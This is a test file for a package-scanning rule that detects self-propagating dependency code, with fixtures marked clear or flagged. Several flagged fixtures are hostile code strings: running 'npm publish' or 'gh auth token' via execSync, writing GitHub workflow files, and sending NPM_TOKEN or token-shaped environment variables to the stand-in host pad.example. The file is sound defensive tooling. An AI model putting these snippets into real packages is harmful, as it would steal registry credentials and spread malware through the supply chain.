import { selfPropagation } from '../../../src/rules/code/self-propagation.js'
import type { Confidence, Severity } from '../../../src/rules/rule.js'
import { anAnalysedPackage } from '../../builders/analysed-package.js'
import { type CodeEvidence, codeFacts, codeObservation } from '../../builders/code-finding.js'
import { aDependencyChange } from '../../builders/dependency-change.js'
import { testRule } from '../../rule-tester.js'

const upgrade = aDependencyChange()
const addition = aDependencyChange({ before: null })
const tools = { build: false, release: false }

const observation = (severity: Severity, confidence: Confidence, ...evidence: readonly CodeEvidence[]) =>
  codeObservation('publishes packages, writes to repositories, or takes the tokens with which this is done', evidence, {
    severity,
    confidence,
  })

const pad = { 'index.js': 'module.exports = (text, width) => text.padStart(width)\n' }
/** `code` in a function of the entry point, in line 2. */
const called = (code: string) => ({ 'index.js': `module.exports = () => {\n${code}\n}` })
const upgraded = async (before: Record<string, string>, now: Record<string, string>) => ({
  ...(await codeFacts(before, now)),
  tools,
})
const added = async (code: string) => ({ package: await anAnalysedPackage(called(code)), tools })

const publishes = "require('child_process').execSync('npm publish --access public')"
const writesWorkflow = "require('fs').writeFileSync('.github/workflows/pad.yml', text)"
const commits = 'octokit.rest.repos.createOrUpdateFileContents({ path })'
const takesToken = "require('child_process').execSync('gh auth token')"
const sendsToken = "const token = process.env.NPM_TOKEN; fetch('https://pad.example/' + token)"
const namesToken = "const key = ':_authToken'; fetch('https://pad.example/', { key })"
const looksForTokens =
  "for (const name in process.env) if (/npm_[A-Za-z0-9]{36}/.test(process.env[name])) fetch('https://pad.example/' + name)"

testRule(selfPropagation, {
  clear: [
    {
      name: 'commands that publish nothing',
      subject: upgrade,
      facts: await upgraded(pad, called("require('child_process').execSync('npm ls')")),
    },
    {
      name: 'a release tool, by policy',
      subject: addition,
      facts: { package: await anAnalysedPackage(called(publishes)), tools: { build: false, release: true } },
    },
    {
      name: "the question for a package's newest version",
      subject: addition,
      facts: await added("fetch('https://registry.example/-/package/left-pad/dist-tags')"),
    },
    {
      name: 'a folder of workflows that is looked for',
      subject: addition,
      facts: await added("return require('fs').existsSync('.github/workflows')"),
    },
    {
      name: 'the token of another service',
      subject: addition,
      facts: await added("fetch('https://pad.example/', { headers: { key: process.env.PAD_TOKEN } })"),
    },
    {
      name: 'shapes of tokens where nothing is sent',
      subject: addition,
      facts: await added("return text.replace(/ghp_[A-Za-z0-9]{36}/, '***')"),
    },
    {
      name: 'what the version before did as well',
      subject: upgrade,
      facts: await upgraded(called(publishes), { 'index.js': `// 1.0.1\n${called(publishes)['index.js']}` }),
    },
    {
      name: 'a script of the project that nothing loads',
      subject: upgrade,
      facts: await upgraded(pad, { ...pad, 'test/publish.js': publishes }),
    },
    { name: 'a package that is removed', subject: aDependencyChange({ after: null }) },
  ],
  flagged: [
    {
      name: 'npm publish',
      subject: upgrade,
      facts: await upgraded(pad, called(publishes)),
      observations: [observation('critical', 'high', ['publishes packages', publishes, 'index.js', 2, 1])],
    },
    {
      name: 'a package that is put into a registry by hand',
      subject: addition,
      facts: await added("fetch('https://registry.example/left-pad', { method: 'PUT', body })"),
      observations: [
        observation('critical', 'high', [
          'publishes packages',
          "fetch('https://registry.example/left-pad', { method: 'PUT', body })",
          'index.js',
          2,
          1,
        ]),
      ],
    },
    {
      name: 'a workflow that is written',
      subject: upgrade,
      facts: await upgraded(pad, called(writesWorkflow)),
      observations: [observation('critical', 'medium', ['writes workflows', writesWorkflow, 'index.js', 2, 1])],
    },
    {
      name: "a file that is put into somebody's repository",
      subject: upgrade,
      facts: await upgraded(pad, called(commits)),
      observations: [observation('critical', 'medium', ['writes to repositories', commits, 'index.js', 2, 1])],
    },
    {
      name: "the token of GitHub's command",
      subject: upgrade,
      facts: await upgraded(pad, called(takesToken)),
      observations: [
        observation('high', 'high', ["takes the token of GitHub's command", takesToken, 'index.js', 2, 1]),
      ],
    },
    {
      name: 'a token of a registry that is sent',
      subject: upgrade,
      facts: await upgraded(pad, called(sendsToken)),
      observations: [
        observation('high', 'medium', ['sends a token of a registry or forge', sendsToken, 'index.js', 2, 15]),
      ],
    },
    {
      name: 'a search for tokens by their shape, as medium',
      subject: upgrade,
      facts: await upgraded(pad, called(looksForTokens)),
      observations: [
        observation('medium', 'low', ['knows the shape of such tokens', looksForTokens, 'index.js', 2, 37]),
      ],
    },
    {
      name: 'the name of a token in what talks to registries, as low',
      subject: addition,
      facts: await added(namesToken),
      observations: [observation('low', 'low', ['knows the shape of such tokens', namesToken, 'index.js', 2, 13])],
    },
    {
      name: 'a script that nothing in the package leads to, one step lower',
      subject: upgrade,
      facts: await upgraded(pad, { ...pad, 'scripts/publish.js': publishes }),
      observations: [observation('high', 'high', ['publishes packages', publishes, 'scripts/publish.js', 1, 1])],
    },
  ],
})
